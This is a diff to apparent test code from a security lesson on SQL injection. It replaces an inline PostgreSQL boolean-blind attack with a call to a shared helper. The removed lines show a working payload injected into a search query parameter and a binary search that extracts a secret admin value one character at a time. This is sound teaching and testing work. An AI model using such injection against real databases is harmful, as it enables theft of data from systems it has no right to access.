@@ -26,6 +26,7 @@ from lessons.l09_security.test_checkers import (
     pasted,
     run,
     search_app,
+    steal_by_boolean_blind,
     steal_by_reading_roles,
     steal_by_union,
 )
@@ -116,22 +117,7 @@ def steal_from_the_error_message(client):
 
 def steal_by_boolean_blind_with_ascii(client):
     """PostgreSQL has ascii() where SQLite has unicode(): one yes/no question per request."""
-
-    def true(condition):
-        return bool(client.get("/search", params={"q": f"Blue mug' AND ({condition}) --"}).json())
-
-    length = next(n for n in range(1, 100) if true(f"length({ADMIN}) = {n}"))
-    found = ""
-    for i in range(1, length + 1):
-        low, high = 32, 126
-        while low < high:
-            middle = (low + high) // 2
-            if true(f"ascii(substr({ADMIN}, {i}, 1)) > {middle}"):
-                low = middle + 1
-            else:
-                high = middle
-        found += chr(low)
-    return found
+    return steal_by_boolean_blind(client, char_code="ascii")
 
 
 @pytest.mark.parametrize(
